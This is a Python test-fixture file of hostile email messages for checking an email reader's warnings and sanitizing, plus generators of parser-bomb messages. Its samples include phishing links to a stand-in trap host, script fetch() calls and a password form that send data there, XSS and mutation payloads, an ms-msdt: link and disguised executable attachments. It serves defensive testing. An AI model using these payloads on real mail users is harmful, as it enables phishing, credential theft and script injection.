"""Messages that mean harm, each with what the reader must say of it; and ones that only want to wear it out."""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass, field

CRLF = "\r\n"
# Where the traps lead; no page may ever ask for it.
TRAP = "https://piege.example"


@dataclass(frozen=True)
class Hostile:
    """codes: it must be warned of these. shown, kept_out: of the markup of all versions, as a reader has them.

    files: names as they must be listed.
    """

    name: str
    raw: bytes
    codes: frozenset[str] = frozenset()
    shown: tuple[str, ...] = ()
    kept_out: tuple[str, ...] = ()
    files: tuple[str, ...] = field(default=())


def message(
    body: str | bytes,
    kind: str = "text/html; charset=utf-8",
    *,
    sender: str = "Camille <camille@ecole.example>",
    headers: str = "",
    encoding: str = "8bit",
) -> bytes:
    head = (
        f"From: {sender}{CRLF}To: agent@ac-reunion.fr{CRLF}Subject: Essai{CRLF}"
        f"Date: Mon, 5 Jan 2026 10:00:00 +0400{CRLF}{headers}"
        f"Content-Type: {kind}{CRLF}Content-Transfer-Encoding: {encoding}{CRLF}{CRLF}"
    )
    return head.encode("utf-8", "surrogateescape") + (body.encode() if isinstance(body, str) else body)


def parts(kind: str, *bodies: str | bytes, headers: str = "", sender: str = "a@ecole.example") -> bytes:
    """Each body begins with its own header."""
    inside = b"".join(b"--limite\r\n" + (one.encode() if isinstance(one, str) else one) + b"\r\n" for one in bodies)
    return message(inside + b"--limite--\r\n", f'{kind}; boundary="limite"', headers=headers, sender=sender)


def part(kind: str, body: str, disposition: str = "", encoding: str = "8bit") -> str:
    shown = f"Content-Disposition: {disposition}{CRLF}" if disposition else ""
    return f"Content-Type: {kind}{CRLF}{shown}Content-Transfer-Encoding: {encoding}{CRLF}{CRLF}{body}"


def file_named(name: str, kind: str = "application/octet-stream", content: bytes = b"%PDF-1.7 rien") -> bytes:
    text = part("text/plain", "Voir la pièce jointe.")
    encoded = base64.b64encode(content).decode()
    return parts("multipart/mixed", text, part(kind, encoded, f'attachment; filename="{name}"', "base64"))


def _of(name: str, raw: bytes, *codes: str, shown: tuple[str, ...] = (), kept_out: tuple[str, ...] = (), files=()):
    return Hostile(name, raw, frozenset(codes), shown, kept_out, tuple(files))


LINKS = [
    _of(
        "label-is-another-site",
        message(f'<p>Déclarez sur <a href="{TRAP}/x">www.impots.gouv.fr</a></p>'),
        "misleading_link",
        shown=("www.impots.gouv.fr", "lien trompeur", "<strong>piege.example</strong>/x"),
    ),
    _of(
        "label-with-scheme-in-a-sentence",
        message(f'<a href="{TRAP}">Ouvrez https://portail.ac-reunion.fr maintenant</a>'),
        "misleading_link",
    ),
    _of(
        "label-hides-its-dots",
        message(f'<a href="{TRAP}">www.impots\u200b.gouv\u2024fr</a>'),
        "misleading_link",
    ),
    _of("label-is-an-address", message(f'<a href="{TRAP}">dsi@ac-reunion.fr</a>'), "misleading_link"),
    _of("mailto-to-another", message('<a href="mailto:a@piege.example">dsi@ac-reunion.fr</a>'), "misleading_link"),
    _of("user-part", message('<a href="https://www.ac-reunion.fr@piege.example/">ici</a>'), "disguised_link"),
    _of(
        "backslashes-and-no-slashes",
        message('<a href="https:\\\\piege.example\\x">a</a><a href="https:piege.example">b</a>'),
        shown=("<strong>piege.example</strong>\\x",),
    ),
    _of("javascript", message('<a href="java\nscript:alert(1)">ici</a>'), "dangerous_link", shown=("javascript:",)),
    _of("javascript-entities", message('<a href="&#1;j&#97;vascript&colon;alert(1)">x</a>'), "dangerous_link"),
    _of("data", message('<a href="data:text/html,<script>alert(1)</script>">x</a>'), "dangerous_link"),
    _of("file-share", message('<a href="file://piege.example/partage/a.scf">x</a>'), "dangerous_link"),
    _of("program-by-scheme", message('<a href="ms-msdt:/id x">x</a>'), "dangerous_link"),
    _of("number-as-host", message('<a href="http://0x7f.1/">ici</a>'), "link_to_number"),
    _of(
        "cyrillic-host",
        message('<a href="https://аррӏе.com/">connexion</a>'),
        "lookalike_link",
        shown=("xn--80ak6aa92e.com",),
    ),
    _of("base-elsewhere", message(f'<base href="{TRAP}/"><a href="connexion">x</a>'), shown=("piege.example",)),
    _of("refresh", message(f'<meta http-equiv="refresh" content="0;url={TRAP}/r">'), "redirect", shown=("/r",)),
    _of(
        "cyrillic-host-in-plain-text",
        message("Voir https://аррӏе.com/ vite", "text/plain; charset=utf-8"),
        "lookalike_link",
        shown=("xn--80ak6aa92e.com",),
    ),
]

ACTIVE = [
    _of("script", message(f'<script src="{TRAP}/a.js">fetch("{TRAP}")</script>Bonjour'), "script", kept_out=("fetch",)),
    _of("handlers", message(f'<p onclick="x()">a<img src=x onerror="fetch(\'{TRAP}\')"></p>'), kept_out=("fetch",)),
    _of("svg", message(f'<svg onload="fetch(\'{TRAP}\')"><image href="{TRAP}/i"/><a>x</a></svg>b'), shown=("b",)),
    _of("math-mutation", message('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1>">')),
    _of("noscript-mutation", message('<noscript><p title="</noscript><img src=x onerror=alert(1)>">')),
    _of("comment-tricks", message("<!--><script>x</script>--><!--[if mso]><b>v</b><![endif]-->y"), "script"),
    _of("frames", message(f'<iframe src="{TRAP}"></iframe><object data="{TRAP}"></object><embed src="{TRAP}">')),
    _of("form", message(f'<form action="{TRAP}/vol"><input type="password"><button>Valider</button></form>'),
        "form", "asks_password", shown=("mot de passe à saisir", "piege.example")),
    _of("pictures", message(f'<img src="{TRAP}/1.png" alt="Logo"><img srcset="{TRAP}/2 1x"><p background="{TRAP}/3">'),
        shown=("[image : Logo]",)),
    _of("tracker", message(f'<img src="{TRAP}/t.gif" width=1 height=1>Bonjour'), "tracker"),
    _of("styles-that-load", message(f'<style>@import "{TRAP}/a.css";p{{background:url({TRAP}/b)}}</style>'
                                    f'<p style="background:url(\'{TRAP}/c\')">x</p>')),
    _of("media", message(f'<video poster="{TRAP}/p" src="{TRAP}/v" autoplay></video><audio src="{TRAP}/a">')),
    _of("unclosed", message(f'<p>a<img src="{TRAP}/?')),
    _of("plaintext-tag", message("<plaintext><script>alert(1)</script>"), shown=("&lt;script&gt;",)),
    _of("template-tag", message("<template><script>x</script></template>après"), shown=("après",)),
    _of("imitates-our-remarks", message("<code>[→ https://impots.gouv.fr]</code><mark>sûr</mark>"),
        kept_out=("<code>", "<mark>")),
    _of("html-in-plain-text", message(f'<img src="{TRAP}"><script>x</script>', "text/plain"), shown=("&lt;img",)),
    _of("text-html-as-utf7", message("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html; charset=utf-7")),
]  # fmt: skip

HIDDEN = [
    _of("display-none", message('<p style="DISPLAY:\\6e one">secret</p>vu'), "hidden_text", kept_out=("secret",)),
    _of("hidden-by-class", message("<style>.z{display:none}</style><b class='a z'>secret</b>vu"), "hidden_text",
        kept_out=("secret",)),
    _of("white-on-white", message('<font color="#FEFEFE">secret</font>vu'), "hidden_text", kept_out=("secret",)),
    _of("zero-size", message('<span style="font-size:0px">secret</span>vu'), "hidden_text", kept_out=("secret",)),
    _of("off-the-page", message('<div style="position:absolute;left:-9999px">secret</div>vu'), "hidden_text",
        kept_out=("secret",)),
    _of("white-on-dark-is-seen", message('<td style="background:#000"><b style="color:#fff">titre</b>'),
        shown=("titre",)),
    _of("turned", message("<p>facture\u202efdp.exe</p>"), "turned_text", shown=("[U+202E]",), kept_out=("\u202e",)),
    _of("zero-width", message("<p>mot de pa\u200bsse</p>"), "invisible_characters", shown=("pa[U+200B]sse",)),
    _of("heaped-marks", message("<p>a" + "\u0301" * 500 + "</p>"), kept_out=("\u0301" * 5,)),
]  # fmt: skip

SENDERS = [
    _of("address-in-the-name", message("a", sender='"recteur@ac-reunion.fr" <x@piege.example>'), "name_claims_address"),
    _of("address-in-an-encoded-name", message("a", sender="=?utf-8?q?dsi=40ac-reunion.fr?= <x@piege.example>"),
        "name_claims_address"),
    _of("reply-elsewhere", message("a", headers="Reply-To: x@piege.example\r\n"), "reply_elsewhere"),
    _of("sent-by-another", message("a", headers="Sender: x@piege.example\r\n"), "sent_by_other"),
    _of("two-senders", message("a", headers="From: autre@piege.example\r\n"), "several_senders"),
    _of("no-sender", message("a", sender=""), "no_sender"),
    _of("cyrillic-sender", message("a", sender="Paul <a@аррӏе.com>"), "lookalike_sender"),
    _of("turned-name", message("a", sender='"\u202eertsiniM" <x@piege.example>'), "turned_text"),
    _of("comments-in-comments", message("a", sender="(" * 20_000 + "x@piege.example")),
    _of("encoded-word-bomb", message("a", headers="Subject: " + "=?utf-8?b?4oCu?= " * 900 + CRLF)),
    _of("raw-eight-bit-header", message("a", headers="X-A: \udce9\udcff\r\n")),
    _of("nul-bytes", message("a\0b", headers="Subject: a\0b\r\n")),
]  # fmt: skip

FILES = [
    _of("program", file_named("facture.exe"), "executable", files=["facture.exe"]),
    _of("two-extensions", file_named("facture.pdf      .scr"), "double_extension", "executable"),
    _of("turned-file-name", file_named("facture\u202efdp.exe"), "turned_name", "executable",
        files=["facture[U+202E]fdp.exe"]),
    _of("dot-at-the-end", file_named("facture.exe. ."), "executable"),
    _of("stream", file_named("facture.js::$DATA"), "executable"),
    _of("program-called-pdf", file_named("facture.pdf", content=b"MZ\x90\0" + b"\0" * 60), "disguised_executable"),
    _of("macros", file_named("salaires.xlsm"), "macros"),
    _of("page", file_named("connexion.htm"), "web_page"),
    _of("disk-image", file_named("scan.iso"), "disk_image"),
    _of("two-names", parts("multipart/mixed", part("text/plain", "x"),
        part('application/x; name="a.exe"', "x", 'attachment; filename="a.txt"')), "executable", files=["a.txt"]),
    _of("name-in-pieces", parts("multipart/mixed", part("text/plain", "x"),
        part("application/x", "x", "attachment; filename*0*=utf-8''fact%75re; filename*1=\".e\"; filename*2=xe")),
        "executable", files=["facture.exe"]),
    _of("tnef", file_named("winmail.dat", "application/ms-tnef"), "tnef", files=["winmail.dat"]),
    _of("uuencoded", message("Voir\r\n\r\nbegin 644 jeu.exe\r\n#0V%T\r\n`\r\nend\r\n", "text/plain"), "executable",
        files=["jeu.exe"]),
    _of("sealed", message("MIIB", 'application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"'), "encrypted",
        files=["smime.p7m"]),
    _of("pgp", parts("multipart/encrypted", part("application/pgp-encrypted", "Version: 1"),
        part("application/octet-stream", "-----BEGIN PGP MESSAGE-----")), "encrypted"),
    _of("program-in-an-attached-message", parts("multipart/mixed", part("text/plain", "x"),
        "Content-Type: message/rfc822\r\n\r\n" + file_named("a.exe").decode()), "executable"),
]  # fmt: skip

SHAPES = [
    _of("two-versions", parts("multipart/alternative", part("text/plain", "en texte"), part("text/html", "<b>riche")),
        shown=("en texte", "<strong>riche</strong>")),
    _of("never-ends", message("--limite\r\n\r\nabc", "multipart/mixed; boundary=limite"), shown=("abc",)),
    _of("no-boundary", message("abc", "multipart/mixed"), "broken", shown=("abc",)),
    _of("boundary-never-met", message("abc", "multipart/mixed; boundary=x"), "broken", shown=("abc",)),
    _of("unknown-charset", message(b"d\xe9j\xe0", "text/plain; charset=klingon"), "bad_charset", shown=("déjà",)),
    _of("wrong-charset", message("déjà", "text/plain; charset=us-ascii"), shown=("déjà",)),
    _of("trap-charset", message("a" * 50_000, "text/plain; charset=punycode"), "bad_charset"),
    _of("broken-base64", message("QQ=Q=!!! \0Qk", "text/plain", encoding="base64")),
    _of("broken-quoted-printable", message("a=ZZ=\r\n=", "text/plain", encoding="quoted-printable")),
    _of("no-header", b"\r\n\r\nabc"),
    _of("empty", b""),
    _of("one-line", b"abc"),
    _of("bad-dates", message("a", headers="Date: Mon, 99 Foo 99999 99:99 +9999\r\n")),
]  # fmt: skip

CORPUS = [*LINKS, *ACTIVE, *HIDDEN, *SENDERS, *FILES, *SHAPES]


def _repeated(unit: bytes, kind: str = "text/html", before: bytes = b"", encoding: str = "8bit"):
    return lambda size: message(before + unit * max(1, size // len(unit)), kind, encoding=encoding)


def _nested(size: int) -> bytes:
    inner = b"Content-Type: text/plain\r\n\r\n" + b"x" * size
    for level in range(40):
        edge = b"n%d" % level
        inner = b"Content-Type: multipart/mixed; boundary=" + edge + b"\r\n\r\n--" + edge + b"\r\n" + inner
    return inner


# Each makes a message of about so many bytes.
BOMBS: dict[str, Callable[[int], bytes]] = {
    "empty lines": _repeated(b"\n", "text/plain"),
    "one header": lambda size: b"A: " + b"x" * size,
    "many headers": lambda size: b"A: b\r\n" * (size // 6),
    "folded header": lambda size: b"A: b\r\n" + b" x\r\n" * (size // 4),
    "open comments": lambda size: b"From: " + b"(" * size,
    "recipients": lambda size: b"To: " + b"a@b.fr," * (size // 7) + b"\r\n\r\n",
    "encoded words": lambda size: b"Subject: " + b"=?utf-8?b?YWFh?= " * (size // 17) + b"\r\n\r\n",
    "boundary-like lines": _repeated(b"\n--xy", "multipart/mixed; boundary=x"),
    "boundary within itself": _repeated(b"-", "multipart/mixed; boundary=-"),
    "parts": _repeated(b"--x\r\nContent-Type: a/b; name=a.exe\r\n\r\nMZ\r\n", "multipart/mixed; boundary=x"),
    "parts of header": _repeated(b"--x\r\n" + b"A: b\r\n" * 13_000 + b"\r\nx\r\n", "multipart/mixed; boundary=x"),
    "parts of HTML": _repeated(
        b"--x\r\nContent-Type: text/html\r\n\r\n" + b"<b>x" * 20_000 + b"\r\n", "multipart/mixed; boundary=x"
    ),
    "messages in messages": lambda size: b"Content-Type: message/rfc822\r\n\r\n" * (size // 32),
    "parts in parts": _nested,
    "open tags": _repeated(b"<div>"),
    "bold text": _repeated(b"<b>x"),
    "links": _repeated(b"<a href=http://x.fr/>www.y.fr</a>"),
    "quotations": _repeated(b"<blockquote>x"),
    "lists": _repeated(b"<ul><li>x"),
    "tables": _repeated(b"<table><tr><td>x"),
    "less-than signs": _repeated(b"<"),
    "ends": _repeated(b"</b>", before=b"<p>" * 5_000),
    "attributes": lambda size: message(b"<a " + b"".join(b"a%d=1 " % at for at in range(size // 10)) + b">x"),
    "styles": _repeated(b".a{color:red}", before=b"<style>"),
    "braces": _repeated(b"{", before=b"<style>"),
    "turned letters": _repeated(b"&#x202e;a"),
    "base64": _repeated(b"PHA+eA==\r\n", encoding="base64"),
    "foreign hosts": _repeated("://é".encode(), "text/plain; charset=utf-8"),
    "marks": _repeated("\u0301".encode(), "text/plain; charset=utf-8"),
    "uuencoded files": _repeated(b"begin 644 a.exe\n", "text/plain"),
}
